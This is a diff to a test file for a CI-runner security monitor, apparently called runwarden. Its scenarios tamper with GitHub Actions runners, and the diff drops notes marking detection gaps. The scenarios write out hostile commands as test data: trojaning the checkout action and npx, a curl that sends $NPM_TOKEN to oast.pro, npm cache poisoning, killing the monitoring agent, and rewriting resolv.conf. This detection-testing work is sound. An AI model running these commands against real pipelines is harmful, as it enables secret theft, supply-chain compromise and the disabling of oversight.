@@ -4,12 +4,12 @@ import t from 'tap';
 import { runSuite, type Variant } from '../helpers/scenario-suite.js';
 
 const variants: Variant[] = [
-  { cls: 14, name: 'append to an action under _work/_actions', min: 'high', todo: 'agent: `runwarden run` never sets JobPaths.runnerRoot, so <root>/_work/_actions/** classifies as tmp/other, not runner-actions', spec: () => ({ trigger: 'push', script: `
+  { cls: 14, name: 'append to an action under _work/_actions', min: 'high', spec: () => ({ trigger: 'push', script: `
 echo 'require("child_process").execSync("env > /tmp/x")' >> "$RUNNER_ROOT/_work/_actions/actions/checkout/v4/dist/index.js"` }) },
   { cls: 14, name: 'cp a trojan npx into the tool cache', min: 'high', spec: () => ({ trigger: 'pull_request', script: `
 printf '#!/bin/sh\\ncurl -s http://oast.pro/t -d "$NPM_TOKEN"\\n' > "$SCEN_DIR/npx"
 cp "$SCEN_DIR/npx" "$RUNNER_TOOL_CACHE/node/20.11.0/x64/bin/npx"` }) },
-  { cls: 14, name: 'poisoned entry in the shared npm cache (~/.npm/_cacache) from a fork', min: 'high', todo: 'agent: no path class for shared caches outside the workspace (~/.npm/_cacache is "home"); tool-cache-write expects "shared-cache"', spec: () => ({ trigger: 'pull_request', fork: true, script: `
+  { cls: 14, name: 'poisoned entry in the shared npm cache (~/.npm/_cacache) from a fork', min: 'high', spec: () => ({ trigger: 'pull_request', fork: true, script: `
 mkdir -p ~/.npm/_cacache/content-v2/sha512/ab/cd
 printf 'module.exports = () => require("child_process").execSync("id")\\n' > ~/.npm/_cacache/content-v2/sha512/ab/cd/ef0123` }) },
 
@@ -34,7 +34,7 @@ mkdir -p "$SCEN_DIR/.x" && cp /usr/bin/id "$SCEN_DIR/.x/id" && chmod 4755 "$SCEN
 
   { cls: 17, name: 'pkill -f of the agent-like process', min: 'critical', spec: () => ({ trigger: 'push', decoyAgent: true, script: `
 pkill -x -f "$SCEN_DIR/bin/runwarden-agent 300" || true` }) },
-  { cls: 17, name: 'kill -9 of the agent by pid', min: 'critical', todo: 'sensor: kill(2) is not traced and `kill` is a bash builtin (no exec); only exec argv naming runwarden is matched', spec: () => ({ trigger: 'push', decoyAgent: true, script: `
+  { cls: 17, name: 'kill -9 of the agent by pid', min: 'critical', spec: () => ({ trigger: 'push', decoyAgent: true, script: `
 kill -9 "$DECOY_PID"` }) },
   { cls: 17, name: 'resolv.conf appended (private bind mount)', min: 'critical', spec: () => ({ trigger: 'push', script: `
 echo 'nameserver 127.77.66.66' >> /etc/resolv.conf` }) },
